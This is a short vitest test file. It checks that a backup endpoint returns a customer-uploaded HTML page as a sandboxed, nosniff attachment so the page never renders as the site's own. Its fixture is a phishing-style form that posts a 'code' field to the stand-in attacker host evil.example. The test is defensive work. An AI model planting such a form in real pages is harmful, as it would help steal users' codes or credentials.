import { expect, it } from 'vitest';
import { ADMIN, ask, bindings } from '../world.ts';

it('a page that a customer has sent is saved out of a backup, and never shown as one of ours', async () => {
  const page = '<form action="https://evil.example"><input name="code"></form>';
  await bindings.BLOBS.put('demo/sent/page.html', page, { httpMetadata: { contentType: 'text/html' } });
  const answer = await ask('/api/v1/backup/files?key=sent/page.html', { headers: ADMIN });
  expect([answer.status, await answer.text()]).toEqual([200, page]);
  expect(answer.headers.get('content-disposition')).toBe('attachment');
  expect(answer.headers.get('content-security-policy')).toContain('sandbox');
  expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
  await bindings.BLOBS.delete('demo/sent/page.html');
});
